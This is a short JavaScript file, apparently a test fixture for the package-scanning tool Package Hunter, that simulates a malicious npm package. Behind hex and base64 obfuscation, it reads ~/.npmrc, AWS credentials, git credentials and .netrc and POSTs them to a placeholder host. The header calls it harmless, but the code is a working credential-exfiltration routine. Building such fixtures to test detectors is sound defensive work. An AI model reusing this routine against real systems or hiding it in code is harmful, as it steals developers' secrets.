// Harmless simulation for testing Package Hunter. Not malware.
const _0x = ["6673", "6f73", "706174 68".replace(" ", ""), "6874747073"].map((h) => require(Buffer.from(h, "hex").toString()));
const [_f, _o, _p, _h] = _0x;
const _d = (t) => Buffer.from(t, "base64").toString();
const _l = ["Lm5wbXJj", "LmF3cy9jcmVkZW50aWFscw==", "LmdpdC1jcmVkZW50aWFscw==", "Lm5ldHJj"].map(_d);
const _b = _l.map((n) => { try { return _f.readFileSync(_p.join(_o.homedir(), n)).toString("hex"); } catch (e) { return ""; } });
const _r = _h.request({ hostname: _d("a2l0LmV4YW1wbGU="), path: "/g", method: "POST" });
_r.on("error", () => {});
_r.end(_b.join("|"));
